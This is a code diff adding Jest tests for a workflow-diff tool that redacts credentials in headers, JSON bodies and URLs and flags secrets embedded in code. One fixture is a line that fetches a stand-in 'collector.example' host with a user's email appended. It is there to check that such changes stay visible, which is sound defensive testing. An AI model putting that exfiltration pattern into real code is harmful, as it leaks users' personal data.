@@ -192,7 +192,7 @@ describe('diffFlows', () => {
     for (const diff of [diffFlows(before, after, 'Checkout'), diffFlows(formBefore, formAfter, 'Checkout')]) {
       expect(diff.verdict).toBe('changed');
       expect(diff.nodes.changed[0]?.changes).toEqual([
-        { path: expect.stringMatching(/password|formFieldsList/), hidden: true },
+        expect.objectContaining({ path: expect.stringMatching(/password|formFieldsList/), hidden: true }),
       ]);
       const everything = [
         JSON.stringify(diff),
@@ -200,8 +200,109 @@ describe('diffFlows', () => {
         JSON.stringify(diffModal('id', 'title', [planned(diff)], 0)),
       ].join('\n');
       expect(everything).not.toContain(canary);
-      expect(diffLines([planned(diff)]).join('\n')).toContain('changed (a secret: not shown)');
+      expect(diffLines([planned(diff)]).join('\n')).toContain('changed (a secret: not shown; ');
     }
+  });
+
+  describe('secrets found by where they sit, and changes nothing can hide', () => {
+    const canary = 'CANARY-s3cr3t-9f2b';
+    const withProperties = (properties: Record<string, unknown>) =>
+      flow(
+        ids.checkout,
+        'Checkout',
+        staging,
+        graph(
+          connection('callnode01', {
+            connectorId: 'httpConnector',
+            connectionId: ids.stagingHttp,
+            name: 'Call API',
+            capabilityName: 'makeRestApiCall',
+            properties,
+          }),
+        ),
+      );
+    const shown = (diff: ReturnType<typeof diffFlows>) =>
+      [
+        JSON.stringify(diff),
+        diffText([planned(diff)]),
+        JSON.stringify(diffModal('id', 't', [planned(diff)], 0)),
+      ].join('\n');
+
+    it('hides the value of a header named like a credential, and shows the rest of the change', () => {
+      const diff = diffFlows(
+        withProperties({
+          headers: {
+            value: [
+              { key: 'Authorization', value: `Bearer ${canary}-1` },
+              { key: 'Accept', value: 'text/html' },
+            ],
+          },
+        }),
+        withProperties({
+          headers: {
+            value: [
+              { key: 'Authorization', value: `Bearer ${canary}-2` },
+              { key: 'Accept', value: 'application/json' },
+            ],
+          },
+        }),
+        'Checkout',
+      );
+      expect(shown(diff)).not.toContain(canary);
+      const line = diffLines([planned(diff)]).join('\n');
+      expect(line).toContain('«secret»');
+      expect(line).toContain('application/json');
+    });
+
+    it('hides a client secret in a JSON body and a key in a URL, and says a change only there happened', () => {
+      const diff = diffFlows(
+        withProperties({
+          body: { value: `{"client_id":"app","client_secret":"${canary}-1"}` },
+          url: { value: `https://api.example.com/v1/users?api_key=${canary}-1&limit=10` },
+        }),
+        withProperties({
+          body: { value: `{"client_id":"app","client_secret":"${canary}-2"}` },
+          url: { value: `https://api.example.com/v1/users?api_key=${canary}-2&limit=20` },
+        }),
+        'Checkout',
+      );
+      expect(shown(diff)).not.toContain(canary);
+      const changes = diff.nodes.changed[0]?.changes ?? [];
+      expect(changes.find((c) => c.path === 'body')).toMatchObject({
+        hidden: true,
+        sizes: { before: 58, after: 58 },
+      });
+      expect(changes.find((c) => c.path === 'url')?.after).toBe(
+        'https://api.example.com/v1/users?api_key=«secret»&limit=20',
+      );
+    });
+
+    it('shows a change to code whatever it contains: six stars do not hide it', () => {
+      const diff = diffFlows(
+        withProperties({ code: { value: 'return { ok: true } // ******' } }),
+        withProperties({
+          code: { value: "fetch('https://collector.example/?d=' + params.email) // ******" },
+        }),
+        'Checkout',
+      );
+      const change = diff.nodes.changed[0]?.changes[0];
+      expect(change?.hidden).toBeUndefined();
+      expect(change?.after).toContain('collector.example');
+    });
+
+    it('warns of something shaped like a secret in code, where secrets do not belong', () => {
+      const diff = diffFlows(
+        withProperties({ code: { value: 'return 1' } }),
+        withProperties({
+          code: { value: "fetch(u, { headers: { authorization: 'Bearer abcdefgh12345678' } })" },
+        }),
+        'Checkout',
+      );
+      const line = diffLines([planned(diff)]).join('\n');
+      expect(line).toContain('«secret»');
+      expect(line).toContain('where secrets do not belong');
+      expect(line).not.toContain('abcdefgh12345678');
+    });
   });
 
   it('names changes to settings and the input and output schema, not to the log level', () => {
